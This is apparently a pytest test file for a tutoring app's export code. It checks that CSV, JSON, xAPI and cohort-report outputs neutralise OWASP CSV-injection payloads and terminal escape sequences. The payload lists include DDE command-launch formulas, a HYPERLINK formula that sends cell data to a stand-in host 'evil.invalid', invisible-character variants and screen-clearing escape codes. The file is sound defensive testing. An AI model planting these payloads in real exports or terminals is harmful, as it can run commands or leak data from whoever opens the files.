"""Export injection: the OWASP CSV-injection payloads — `=`, `+`, `-`, `@`, tab and carriage
return at the start of a cell, also after leading spaces, non-breaking spaces and other
blanks; multi-line cells; DDE payloads — in learner names, programs and levels, in
content-derived text (question ids, objectives, lesson ids, matching answers) and in the
fields of JSON exports fed to the cohort report. Every CSV the app writes (responses,
summary, cohort) is neutralised and parses back to the original values; JSON and xAPI
exports carry such names exactly; the cohort summary printed to the terminal carries no
escape sequence from an export file.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from msgspec.structs import replace

from tests.faults.csvcheck import assert_safe, formula_risk, shown
from tests.services.tinybank import FakeClock, tiny_bank
from vpkp_tutor.cli import main
from vpkp_tutor.domain.model import ContentBank, MatchPair
from vpkp_tutor.domain.progress import Learner, QuizMode, QuizSettings
from vpkp_tutor.export.cohort import build_report, write_cohort_csv
from vpkp_tutor.export.csv_export import summary_path
from vpkp_tutor.export.csv_safe import unneutralise
from vpkp_tutor.export.json_export import read_export
from vpkp_tutor.services import Services
from vpkp_tutor.storage import open_store

PAYLOADS = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1",
    "   +1", "\u00a0=1+1", "\u00a0\u00a0@x", "\u3000=1", "\u2003=1", "\u200b=1", "\ufeff=1",
    " \t=1", "\uff1d1+1", "\uff0bcmd", "=cmd|' /C calc'!A0", "@cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "=HYPERLINK(\"http://evil.invalid/?\"&A1,\"Click\")", "=IMPORTXML(CONCAT(\"http://x/\",A1),\"//a\")",
    "Ada\n=1+1", "=1+1\r\n=2+2", "'=already quoted", "''", "'", "-", "=", "@", "+",
    "a,b\"c\"", "plain name", "Zoë Ñúñez 山田", "-1", "-1.5e3",
]
"""Payloads from the OWASP CSV-injection guidance and friends."""
HIDDEN_PAYLOADS = [
    "\x00=1+1", "\x01@x", "\x7f+1", "\x9b=1", "\u00ad=1+1", "\u061c=1+1", "\u180e=1+1",
    "\u2061=1+1", "\u034f=1+1", "\u17b4=1+1", "\u17b5=1", "\u2800=1+1", "\u115f=1+1",
    "\u1160=1", "\u3164=1+1", "\uffa0=1+1", "\ue000=1+1", "\U000f0000+1", "\U000e0001=1",
    "\u2028=1", "\u2029+1", "\ufe66 1+1", "\u207c1+1", "\u208c1+1", "\ufe621+1", "\u22121+1",
    "\u02d61+1", "\ufe63 1", "\ufe6bSUM(1)", "\u207a1", "\u2796 1", "\u00ad\u2800\u3164\u2212 1",
    "bel\x07 inside", "nul\x00 inside",
]
"""Payloads that hide their sign behind invisible, format, control or private-use
characters, or write it with a look-alike."""

def hostile_bank() -> ContentBank:
    """The tiny bank with formula payloads in ids, objectives and matching answers."""
    bank = tiny_bank("=fingerprint")
    questions = []
    for q in bank.questions:
        if q.type.value == "matching":
            q = replace(q, pairs=(MatchPair("VP", "=cmd|' /C calc'!A0", "x"),
                                              MatchPair("KP", "@SUM(1)", "y")),
                                    distractors=("+1",))
        questions.append(replace(
            q, id=f"=q.{q.id}" if q.type.value == "single_best" else q.id,
            objectives=("-obj", "@obj", *q.objectives)))
    lessons = tuple(replace(x, id="+" + x.id) for x in bank.lessons)
    return ContentBank(lessons=lessons, questions=tuple(questions), cases=bank.cases,
                       fingerprint="=fingerprint")


def learner_with_work(services: Services, name: str, program: str, level: str) -> Learner:
    """A learner (stored as written, as older data or another tool could have) with a quiz,
    a lesson check and a case run."""
    learner = Learner(f"id-{abs(hash((name, program))):x}", name, program, level,
                      services.clock())
    services.store.add_learner(learner)
    attempt = services.build_quiz(learner.id, QuizSettings(mode=QuizMode.EXAM, count=6, seed=1))
    answers = {"numeric": -2.0, "matching": ("=cmd|' /C calc'!A0", "+1"),
               "multiple_response": ("A", "C"), "ordering": (2, 0, 1)}
    for qid in attempt.question_ids:
        services.record_answer(attempt.id, qid, answers.get(
            services.question(qid).type.value, "A"), 3.0)
    services.finish_quiz(attempt.id)
    lesson = services.content.lessons[0]
    services.answer_lesson_check(learner.id, lesson.id, services.content.questions[0].id, "B", 2)
    services.complete_lesson(learner.id, lesson.id)
    run = services.start_case(learner.id, "case.leak")
    services.record_case_choice(run.id, "push")
    return learner


@pytest.fixture
def services(tmp_path: Path) -> Services:
    svc = Services(hostile_bank(), open_store(tmp_path / "data", daily_backups=False),
                   FakeClock())
    yield svc  # type: ignore[misc]
    svc.store.close()


def test_every_payload_in_every_learner_csv(services: Services, tmp_path: Path) -> None:
    learners = [learner_with_work(services, p, p[::-1], p + "!")
                for p in PAYLOADS + HIDDEN_PAYLOADS]
    tried = 0
    for learner in learners:
        out = services.export(learner.id, "csv", tmp_path / "scores.csv", overwrite=True)
        for path in (out, summary_path(out)):
            header, rows = assert_safe(path)
            tried += sum(len(r) for r in rows)
            col = {name: header.index(name) for name in ("learner_name", "program", "level")}
            for row in rows:
                assert unneutralise(row[col["learner_name"]]) == shown(learner.display_name)
                assert unneutralise(row[col["program"]]) == shown(learner.program)
                assert unneutralise(row[col["level"]]) == shown(learner.level)
        header, rows = assert_safe(out)
        answers = {unneutralise(r[header.index("answer")]) for r in rows}
        assert "-2.0" in answers  # a numeric answer is a number in this column
        stored = {unneutralise(r[header.index("answer_json")]) for r in rows}
        assert any("=cmd|' /C calc'!A0" in a for a in stored)
        assert {unneutralise(r[header.index("question_id")]) for r in rows} >= {"=q.anat.sb1"}
    assert tried > 1000


def test_cohort_csv_from_hostile_exports(services: Services, tmp_path: Path) -> None:
    exports = []
    payloads = PAYLOADS + HIDDEN_PAYLOADS
    for i, p in enumerate(payloads):
        learner = learner_with_work(services, p, "prog " + p, p)
        path = services.export(learner.id, "json", tmp_path / f"e{i}.json")
        doc = json.loads(path.read_text(encoding="utf-8"))
        # An export file is anyone's to edit: put the payload in the fields it is free in.
        doc["learner"]["id"] = f"{p}#{i}"
        doc["content"]["fingerprint"] = p
        for run in doc["case_runs"]:
            run["title"] = p
        path.write_text(json.dumps(doc), encoding="utf-8")
        exports.append(path)
    report = build_report(exports)
    out = write_cohort_csv(report, tmp_path / "cohort.csv")
    header, rows = assert_safe(out)
    names = {unneutralise(r[header.index("learner_name")]) for r in rows}
    ids = {unneutralise(r[header.index("learner_id")]) for r in rows}
    assert names == {shown(p) for p in payloads}
    assert ids == {shown(f"{p}#{i}") for i, p in enumerate(payloads)}


def test_json_export_round_trips_names_exactly(services: Services, tmp_path: Path) -> None:
    for i, p in enumerate(PAYLOADS):
        learner = learner_with_work(services, p, "\u202e" + p, p + "\x1b[2J")
        path = services.export(learner.id, "json", tmp_path / f"e{i}.json")
        json.loads(path.read_text(encoding="utf-8"),
                   parse_constant=lambda c: pytest.fail(f"non-standard JSON constant {c}"))
        back = read_export(path)
        assert (back.learner.display_name, back.learner.program, back.learner.level) == (
            learner.display_name, learner.program, learner.level)
        assert back.learner.id == learner.id
        assert back.fingerprint == "=fingerprint"


def test_xapi_carries_no_name_and_content_text_exactly(services: Services,
                                                       tmp_path: Path) -> None:
    name = "=HYPERLINK(\"http://evil.invalid\",\"Eve\")"
    learner = learner_with_work(services, name, "@x", "+y")
    path = services.export(learner.id, "xapi-lines", tmp_path / "x.jsonl")
    text = path.read_text(encoding="utf-8")
    statements = [json.loads(line, parse_constant=lambda c: pytest.fail(c))
                  for line in text.splitlines()]
    assert statements and "evil.invalid" not in text  # the display name is never sent
    assert all(s["actor"]["account"]["name"] == learner.id for s in statements)
    described = json.dumps(statements)
    assert json.dumps("=cmd|' /C calc'!A0") in described  # the matching target, as authored
    assert json.dumps("=q.anat.sb1") in described


def test_report_prints_no_escape_from_an_export(services: Services, tmp_path: Path,
                                                capsys: pytest.CaptureFixture[str]) -> None:
    nasty = "Eve\x1b]0;PWNED\x07\x1b[2J\u202eevil\x9b31m"
    learner = learner_with_work(services, nasty, nasty, nasty)
    path = services.export(learner.id, "json", tmp_path / "eve.json")
    doc = json.loads(path.read_text(encoding="utf-8"))
    doc["content"]["fingerprint"] = nasty
    for run in doc["case_runs"]:
        run["title"] = nasty
    for r in doc["responses"]:
        r["question_id"] = nasty
    path.write_text(json.dumps(doc), encoding="utf-8")
    other = services.export(learner_with_work(services, "Bob", "", "").id, "json",
                            tmp_path / "bob.json")
    assert main(["report", str(path), str(other), "-o", str(tmp_path / "c.csv")]) == 0
    out = capsys.readouterr().out
    assert "Eve" in out and "evil" in out
    bad = {c for c in out if (ord(c) < 32 and c != "\n") or 0x7f <= ord(c) < 0xa0
           or 0x202a <= ord(c) <= 0x202e}
    assert not bad, f"would reach the terminal: {sorted(bad)!r}"
    assert_safe(tmp_path / "c.csv")


def test_names_typed_into_the_app_are_one_line_of_plain_text(services: Services) -> None:
    learner = services.create_learner("  =Ada\x1b]0;x\x07\n\u202eLovelace\udcff ",
                                      "@Metro\tIR", "-PGY\r4")
    assert learner.display_name == "=Ada Lovelace\ufffd"
    assert (learner.program, learner.level) == ("@Metro IR", "-PGY 4")
    assert services.resolve_learner("=ada\x1b[1m lovelace\udcff").id == learner.id
    assert formula_risk(learner.display_name)  # kept as typed: the CSV writer's job
